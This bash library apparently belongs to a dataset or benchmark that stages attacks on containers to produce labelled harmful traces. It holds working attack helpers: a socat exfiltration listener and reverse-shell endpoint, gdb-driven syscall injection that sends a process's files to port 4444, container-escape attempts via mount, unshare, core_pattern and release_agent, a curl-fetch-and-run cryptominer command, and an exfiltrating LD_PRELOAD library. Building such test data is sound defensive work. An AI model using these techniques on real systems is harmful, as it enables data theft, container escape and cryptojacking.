# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# What the attacks of the data set share. Each service's file has its attacks: functions
# attack_KIND and adaptive_KIND, which are true if the attack reached its goal, and call harm() for
# each harmful thing that they did. Sourced after lib.bash.

harms=() # what the attack did, as build/bench/label looks for it in the trace

# harm OPERATION PATTERN: an operation that does harm. A run in whose attack no such operation is
# found, in any of the containers, is no run.
harm() {
	harms+=("$1 $2")
}

# harms_write NAME BEGIN_NS END_NS: $stage/attack.json, for the labels and for the manifest.
harms_write() {
	jq -n --arg name "$1" --argjson begin "$2" --argjson until "$3" \
		--argjson harms "$(as_json_list "${harms[@]}")" \
		'{name: $name, begin_ns: $begin, end_ns: ($until + 10000000), harms: $harms}' >"$stage/attack.json"
}

# ---- who listens for the attacker, at $peer_address ----

# thief_begin: where stolen data goes, port 4444 of the peers' address. What comes is in $stage/peer-thief.log.
thief_begin() {
	peer_start thief socat -u "TCP-LISTEN:4444,bind=$peer_address,reuseaddr,fork" STDOUT
	until_true "$patience" port_listens 4444
}

# thief_shell COMMANDS: the other end of a reverse shell, on the same port. It sends the commands; their output
# is in $stage/peer-thief.log.
thief_shell() {
	peer_start thief env COMMANDS="$1" socat "TCP-LISTEN:4444,bind=$peer_address,reuseaddr" \
		'SYSTEM:printenv COMMANDS; cat >&2'
	until_true "$patience" port_listens 4444
}

# thief_got PATTERN: waits for it.
thief_got() {
	until_true 20 grep -qE -- "$1" "$stage/peer-thief.log"
}

# port_listens PORT: something in one of the two networks of the run accepts TCP connections there.
port_listens() {
	grep -qs "$(printf ':%04X 0*:0000 0A' "$1")" "/proc/$network_pid/net/"tcp{,6} "/proc/$peers_network_pid/net/"tcp{,6}
}

# connection_held PORT TEXT PATTERN: a client sends the text, gets an answer that matches the pattern, and holds the
# connection until the run ends. TEXT is printf's.
connection_held() {
	mkfifo "$stage/held.input"
	client_limit=600 client_stdin socat - "TCP:$own_address:$1" <"$stage/held.input" >"$stage/held" 2>&1 &
	children[$!]=1
	exec {held_input}>"$stage/held.input"
	# shellcheck disable=SC2059 # a format of the caller's
	printf "$2" >&"$held_input"
	until_true 20 grep -q "$3" "$stage/held"
}

# ---- code inside a process ----

# inject CONTAINER PATTERN EXPRESSION: code inside a process of the container, called by a debugger of the
# host, as an exploit's payload would run there.
inject() {
	[ -n "$(tasks_named "$1" "$2")" ] || { echo "no process of $1 is called $2" && return 1; }
	inject_pid "$(tasks_named "$1" "$2" | head -n 1)" "$3"
}

# inject_pid PID EXPRESSION…: the same for the host's pid of a process.
inject_pid() {
	local pid=$1 e commands=()
	shift
	for e in "$@"; do
		commands+=(-ex "$e")
	done
	debugger -p "$pid" -ex 'set confirm off' -ex 'set unwindonsignal on' "${commands[@]}" -ex detach
}

# debugger ARGUMENT…: gdb, for at most ten minutes: the machine may be busy. It can set the registers of any processor.
debugger() {
	local library=$stage/whole_registers.so
	[ -e "$library" ] || payload_make whole_registers "$library" || return
	LD_PRELOAD=$library timeout 600 gdb -q -nx -batch "$@" </dev/null
}

# code_sends PID FILE PORT: code inside a process sends a file to a port of the peers' address. It starts no program.
# The address is that of AF_INET, as eight bytes.
code_sends() {
	local address
	printf -v address '0x0100580a%02x%02x0002' $(($3 & 255)) $(($3 >> 8))
	# shellcheck disable=SC2016 # the debugger's variables
	inject_pid "$1" 'set $a = (char *) malloc(256)' "set {long} \$a = $address" 'set {long} ($a + 8) = 0' \
		'set $s = (int) socket(2, 1, 0)' 'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' \
		"set \$f = (int) open(\"$2\", 0)" 'print (long) sendfile($s, $f, 0, 4096)' \
		'print (int) close($f)' 'print (int) close($s)'
}

# code_escapes PID: code inside a process tries ways out of the container. False if the process ended.
code_escapes() {
	harm call mount
	harm call unshare
	harm call setns
	harm call mknodat
	harm call ptrace
	inject_pid "$1" 'print (int) mount("none", "/mnt", "tmpfs", 0, 0)' \
		'print (int) unshare(0x10000000)' 'print (int) setns(0, 0)' \
		'print (int) mknod("/tmp/disk", 0060600, 0x800)' 'print (long) ptrace(16, 2, 0, 0)' \
		'print (int) open("/proc/sys/kernel/core_pattern", 1)' \
		'print (int) open("/sys/fs/cgroup/release_agent", 1)' 'print (int) open("/proc/1/environ", 0)' |
		grep -q = && alive "$1"
}

# inject_call CONTAINER PATTERN NUMBER ARGUMENT…: one system call in the main thread of a process, whatever its
# language: a debugger sets the registers, and steps over the instruction that the thread waits in. An argument
# is a number; or the address of what it gives: text in double quotes, or words: and numbers of 64 bits with
# commas between them. Prints "returned N"; false if N is an error, or if the thread never waits.
inject_call() {
	local pid
	pid=$(tasks_named "$1" "$2" | head -n 1)
	[ -n "$pid" ] || { echo "no process of $1 is called $2" && return 1; }
	inject_script "${@:3}" >"$stage/inject.gdb"
	for _ in {1..20}; do
		debugger -p "$pid" -x "$stage/inject.gdb" >"$stage/inject.log" 2>&1
		grep -q ^returned "$stage/inject.log" && break
		sleep 0.3
	done
	grep -E '^returned [0-9]+$' "$stage/inject.log" || { tail -n 3 "$stage/inject.log" && false; }
}

# inject_theft CONTAINER PATTERN FILE TEXT: system calls in a process that connect to the thief and send it a file, in
# which TEXT stands.
inject_theft() {
	local fd secret
	harm connect "$peer_address:4444"
	harm read "$3"
	thief_begin
	fd=$(inject_call "$1" "$2" 41 2 1 0)
	# AF_INET, port 4444, 10.88.0.1
	inject_call "$1" "$2" 42 "${fd#* }" words:0x0100580a5c110002,0 16
	secret=$(inject_call "$1" "$2" 257 -100 "\"$3\"" 0 0)
	# sendfile
	inject_call "$1" "$2" 40 "${fd#* }" "${secret#* }" 0 4096
	inject_call "$1" "$2" 3 "${fd#* }"
	inject_call "$1" "$2" 3 "${secret#* }"
	thief_got "$4"
}

# inject_script NUMBER ARGUMENT…: what the debugger is to do. The data of arguments lies below the stack.
# shellcheck disable=SC2016
inject_script() {
	local number=$1 registers=(rdi rsi rdx r10 r8 r9) i=0 place=256 a r
	shift
	printf '%s\n' 'set confirm off' 'set language c' 'handle all nostop noprint pass' 'set scheduler-locking on' \
		'if *(unsigned short *)($rip - 2) != 0x050f' 'detach' 'quit' 'end'
	for r in rax rip orig_rax r11 rcx "${registers[@]}"; do
		printf 'set $old_%s = $%s\n' "$r" "$r"
	done
	for a in "$@"; do
		place=$((place + 128))
		r=${registers[i]}
		i=$((i + 1))
		case $a in
		'"'*) inject_words "$(printf '%b\0' "${a:1:-1}" | od -An -v -tx8 -w8 | sed 's/ */0x/')" "$r" $place ;;
		words:*) inject_words "${a#words:}" "$r" $place ;;
		*) printf 'set $%s = %s\n' "$r" "$a" ;;
		esac
	done
	# -1: the kernel does not begin again the call that the thread waited in, until the old value is back.
	printf '%s\n' 'set $orig_rax = -1' "set \$rax = $number" 'set $rip = $rip - 2' 'stepi' \
		'printf "returned %ld\n", (long)$rax'
	for r in rip r11 rcx "${registers[@]}" rax orig_rax; do
		printf 'set $%s = $old_%s\n' "$r" "$r"
	done
	echo detach
}

# inject_words WORDS REGISTER PLACE
# shellcheck disable=SC2016
inject_words() {
	local word offset=0
	for word in ${1//,/ }; do
		printf 'set *(long *)($rsp - %d) = %s\n' $(($3 - offset)) "$word"
		offset=$((offset + 8))
	done
	printf 'set $%s = $rsp - %d\n' "$2" "$3"
}

declare -A payload_options=([whole_registers]='-D_GNU_SOURCE -shared -fPIC -O1' [miner]='-O1 -static -s'
	[payload]='-O2 -s -shared -fPIC')

# payload_make NAME FILE: compiles payloads/NAME.c. A VM has no compiler: there it is in build/payloads.
payload_make() {
	if command -v gcc >/dev/null; then
		# shellcheck disable=SC2086 # several words
		gcc ${payload_options[$1]} -o "$2" "$here/payloads/$1.c"
	else
		cp "$root/build/payloads/$1" "$2"
	fi
}

# The mining pool, on port 3333 of the peers' address, and the miner to drop: the file $miner.
pool_begin() {
	miner=$stage/miner
	payload_make miner "$miner"
	peer_start pool socat -u "TCP-LISTEN:3333,bind=$peer_address,reuseaddr,fork" STDOUT
	until_true "$patience" port_listens 3333
}

# The pool has a miner.
pool_got() {
	until_true 20 grep -q login "$stage/peer-pool.log"
}

# armoury_begin: the pool; and on port 8081 of the peers' address, the miner can be fetched.
armoury_begin() {
	pool_begin
	peer_exec python3 -c 'import http.server, sys
data = sys.stdin.buffer.read()
class Armoury(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
http.server.ThreadingHTTPServer((sys.argv[1], 8081), Armoury).serve_forever()' \
		"$peer_address" <"$miner" >"$stage/peer-armoury.log" 2>&1 &
	children[$!]=1
	until_true "$patience" port_listens 8081
}

# miner_commands PATH: for a shell of a container that has curl: drop the miner there, and run it.
miner_commands() {
	echo "curl -so $1 http://$peer_address:8081/miner; chmod 755 $1; $1 $peer_address 3333 3"
}

# preload_library FILE PATH: a library that sends the file PATH of the container to the thief as it is loaded.
preload_library() {
	gcc -shared -fPIC -O1 -DPATH="\"$2\"" -DADDRESS="\"$peer_address\"" -DPORT=4444 -o "$1" "$here/payloads/preload.c"
}
